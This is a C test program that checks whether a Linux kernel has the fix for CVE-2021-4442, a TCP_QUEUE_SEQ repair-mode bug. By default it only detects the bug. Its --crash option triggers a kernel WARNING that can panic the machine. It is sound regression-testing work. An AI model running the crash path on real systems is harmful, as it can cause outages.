// SPDX-License-Identifier: GPL-2.0
/*
 * zc-seq-sanity: TCP_QUEUE_SEQ moved past queued data, then recv.
 *
 * Bug (CVE-2021-4442): before 8811f4a9836e ("tcp: add sanity tests to
 * TCP_QUEUE_SEQ"), setsockopt(TCP_QUEUE_SEQ) only checked that the socket
 * is in CLOSE state. A socket that was connected and got reset is in
 * CLOSE with its received data still queued; setting the receive queue
 * sequence there moves rcv_nxt and copied_seq past skbs that stay in the
 * queue. The next recv() walks the queue, finds an skb that ends before
 * copied_seq and is not a FIN, and warns:
 *   WARNING: ... tcp_recvmsg_locked ... "TCP recvmsg seq # bug 2"
 * (the syzkaller report was a 20-byte repair-mode queue, reset by the
 * window probe of TCP_REPAIR off). The fix also refuses TCP_QUEUE_SEQ
 * (EPERM) when rcv_nxt != copied_seq (receive data queued) or the
 * retransmit queue is not empty (send queue).
 *
 * Steps: a loopback connection; the peer sends 4096 bytes and resets the
 * connection (SO_LINGER 0, close); the receiver, now CLOSE with 4096
 * bytes queued, turns repair mode on (root: CAP_NET_ADMIN), selects the
 * receive queue and sets TCP_QUEUE_SEQ to 64 KiB past rcv_nxt. A fixed
 * kernel refuses (EPERM) and nothing changes; a buggy one accepts, and
 * SIOCINQ (rcv_nxt - copied_seq) drops from 4096 to 0.
 *
 * Standalone: gcc -O2 -static -o zc-seq-sanity zc-seq-sanity.c
 *
 *   zc-seq-sanity [--detect] [-6]  (default) SIOCINQ and TCP_QUEUE_SEQ
 *                          after the refused set; never reads the queue.
 *                          Exit 0 kernel has the fix, 1 it lacks it.
 *   zc-seq-sanity --crash [-6]  then leaves repair mode and calls
 *                          recv(): WARNING in tcp_recvmsg_locked on a
 *                          kernel without the fix (panics with
 *                          panic_on_warn): run it only in a VM.
 * Exit: 0 fixed, 1 bug, 2 usage, 4 cannot test (no CAP_NET_ADMIN,
 * no IPv6, no loopback).
 */
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#define FIX_COMMIT "8811f4a9836e (\"tcp: add sanity tests to TCP_QUEUE_SEQ\", CVE-2021-4442)"

/* uapi values, spelled out so old headers do not matter */
#define TCP_REPAIR_		19
#define TCP_REPAIR_QUEUE_	20
#define TCP_QUEUE_SEQ_		21
#define TCP_REPAIR_ON_		1
#define TCP_REPAIR_OFF_NO_WP_	(-1)
#define TCP_RECV_QUEUE_		1
#define SIOCINQ_		0x541b
#define TCP_INFO_		11
#define TCP_CLOSE_		7

#define DATA_LEN	4096
#define SEQ_JUMP	65536u	/* how far past rcv_nxt TCP_QUEUE_SEQ goes */
#define WAIT_MS		10000

static int v6;

static void cannot(const char *what)
{
	fprintf(stderr, "zc-seq-sanity: cannot test: %s: %s\n", what,
		strerror(errno));
}

/* The guest init of a VM may leave lo down; bring it up (idempotent). */
static void lo_up(void)
{
	struct ifreq ifr;
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	if (fd < 0)
		return;
	memset(&ifr, 0, sizeof(ifr));
	strcpy(ifr.ifr_name, "lo");
	if (!ioctl(fd, SIOCGIFFLAGS, &ifr) && !(ifr.ifr_flags & IFF_UP)) {
		ifr.ifr_flags |= IFF_UP;
		ioctl(fd, SIOCSIFFLAGS, &ifr);
	}
	close(fd);
}

/* A connected loopback pair: *tx is the client, *rx the accepted end. */
static int tcp_pair(int *tx, int *rx)
{
	struct sockaddr_storage ss;
	struct sockaddr_in6 *a6 = (struct sockaddr_in6 *)&ss;
	struct sockaddr_in *a4 = (struct sockaddr_in *)&ss;
	socklen_t len = v6 ? sizeof(*a6) : sizeof(*a4);
	int l, fam = v6 ? AF_INET6 : AF_INET;

	memset(&ss, 0, sizeof(ss));
	if (v6) {
		a6->sin6_family = AF_INET6;
		a6->sin6_addr = in6addr_loopback;
	} else {
		a4->sin_family = AF_INET;
		a4->sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	}
	l = socket(fam, SOCK_STREAM, 0);
	if (l < 0) {
		cannot(v6 ? "socket(AF_INET6)" : "socket(AF_INET)");
		return -1;
	}
	if (bind(l, (struct sockaddr *)&ss, len) || listen(l, 1) ||
	    getsockname(l, (struct sockaddr *)&ss, &len)) {
		cannot("bind/listen on loopback");
		return -1;
	}
	*tx = socket(fam, SOCK_STREAM, 0);
	if (*tx < 0 || connect(*tx, (struct sockaddr *)&ss, len)) {
		cannot("connect over loopback");
		return -1;
	}
	*rx = accept(l, NULL, NULL);
	close(l);
	if (*rx < 0) {
		cannot("accept");
		return -1;
	}
	return 0;
}

static int set_int(int fd, int opt, int val)
{
	return setsockopt(fd, IPPROTO_TCP, opt, &val, sizeof(val));
}

static int inq(int fd)
{
	int n = -1;

	if (ioctl(fd, SIOCINQ_, &n))
		return -1;
	return n;
}

int main(int argc, char **argv)
{
	int crash = 0, tx, rx, i, ret, err, before, after, lowat = DATA_LEN;
	struct linger lin = { .l_onoff = 1, .l_linger = 0 };
	unsigned char info[256] = { 0 };	/* struct tcp_info; state first */
	char buf[DATA_LEN];
	struct pollfd pfd;
	uint32_t seq0, seq1, want;
	socklen_t len;

	for (i = 1; i < argc; i++) {
		if (!strcmp(argv[i], "--detect")) {
			crash = 0;
		} else if (!strcmp(argv[i], "--crash")) {
			crash = 1;
		} else if (!strcmp(argv[i], "-6")) {
			v6 = 1;
		} else if (!strcmp(argv[i], "-h") || !strcmp(argv[i], "--help")) {
			printf("usage: zc-seq-sanity [--detect | --crash] [-6]\n");
			return 0;
		} else {
			fprintf(stderr, "zc-seq-sanity: bad argument '%s' (try -h)\n",
				argv[i]);
			return 2;
		}
	}
	setvbuf(stdout, NULL, _IONBF, 0);	/* every step before a crash */
	lo_up();
	if (tcp_pair(&tx, &rx))
		return 4;

	/* 1. DATA_LEN bytes queued on the receiver, all of them. */
	memset(buf, 'q', sizeof(buf));
	if (send(tx, buf, sizeof(buf), 0) != sizeof(buf)) {
		cannot("send");
		return 4;
	}
	setsockopt(rx, SOL_SOCKET, SO_RCVLOWAT, &lowat, sizeof(lowat));
	pfd.fd = rx;
	pfd.events = POLLIN;
	if (poll(&pfd, 1, WAIT_MS) != 1 || inq(rx) != DATA_LEN) {
		fprintf(stderr, "zc-seq-sanity: cannot test: %d bytes queued, want %d\n",
			inq(rx), DATA_LEN);
		return 4;
	}

	/* 2. The peer resets: the receiver goes to CLOSE, data still queued. */
	if (setsockopt(tx, SOL_SOCKET, SO_LINGER, &lin, sizeof(lin)) ||
	    close(tx)) {
		cannot("SO_LINGER 0 and close (reset)");
		return 4;
	}
	pfd.events = POLLHUP | POLLERR;
	len = sizeof(info);
	if (poll(&pfd, 1, WAIT_MS) != 1 ||
	    getsockopt(rx, IPPROTO_TCP, TCP_INFO_, info, &len) ||
	    info[0] != TCP_CLOSE_ || inq(rx) != DATA_LEN) {
		fprintf(stderr, "zc-seq-sanity: cannot test: after the reset: state %d, %d bytes queued; want CLOSE (7), %d\n",
			info[0], inq(rx), DATA_LEN);
		return 4;
	}

	/* 3. Repair mode on the reset receiver, receive queue selected. */
	if (set_int(rx, TCP_REPAIR_, TCP_REPAIR_ON_)) {
		cannot("TCP_REPAIR (needs CAP_NET_ADMIN)");
		return 4;
	}
	if (set_int(rx, TCP_REPAIR_QUEUE_, TCP_RECV_QUEUE_)) {
		cannot("TCP_REPAIR_QUEUE");
		return 4;
	}
	len = sizeof(seq0);
	if (getsockopt(rx, IPPROTO_TCP, TCP_QUEUE_SEQ_, &seq0, &len)) {
		cannot("getsockopt(TCP_QUEUE_SEQ)");
		return 4;
	}

	/* 4. The receive queue sequence moved past the queued data. */
	before = inq(rx);
	want = seq0 + SEQ_JUMP;
	ret = set_int(rx, TCP_QUEUE_SEQ_, (int)want);
	err = errno;
	after = inq(rx);
	len = sizeof(seq1);
	getsockopt(rx, IPPROTO_TCP, TCP_QUEUE_SEQ_, &seq1, &len);
	printf("reset by the peer (CLOSE), %d bytes queued, repair mode: TCP_QUEUE_SEQ %#x -> %#x: %s\n",
	       before, seq0, want, ret ? strerror(err) : "accepted");
	printf("after: TCP_QUEUE_SEQ=%#x SIOCINQ=%d (a fixed kernel leaves %#x and %d)\n",
	       seq1, after, seq0, before);

	if (!crash) {
		close(rx);	/* repair mode: closes without reading it */
		if (!ret || seq1 != seq0 || after != before) {
			printf("zc-seq-sanity: BUG: TCP_QUEUE_SEQ moved the receive sequence past %d queued bytes: this kernel lacks %s; recv() would hit \"TCP recvmsg seq # bug 2\" (not calling it; --crash does, in a VM only)\n",
			       before, FIX_COMMIT);
			return 1;
		}
		printf("zc-seq-sanity: OK: refused and unchanged (kernel has %s)\n",
		       FIX_COMMIT);
		return 0;
	}

	/*
	 * 5. Leave repair mode without a window probe and read: the queued
	 * skb ends before copied_seq. A buggy kernel WARNs here.
	 */
	if (set_int(rx, TCP_REPAIR_, TCP_REPAIR_OFF_NO_WP_)) {
		cannot("TCP_REPAIR off");
		return 4;
	}
	printf("recv(%d bytes) ...\n", DATA_LEN);
	ret = recv(rx, buf, sizeof(buf), MSG_DONTWAIT);
	err = errno;
	printf("recv returned %d%s%s\n", ret, ret < 0 ? ": " : "",
	       ret < 0 ? strerror(err) : "");
	close(rx);
	if (seq1 != seq0 || ret != DATA_LEN) {
		printf("zc-seq-sanity: BUG: the kernel survived but lacks %s\n",
		       FIX_COMMIT);
		return 1;
	}
	printf("zc-seq-sanity: OK: the queued data read back whole\n");
	return 0;
}
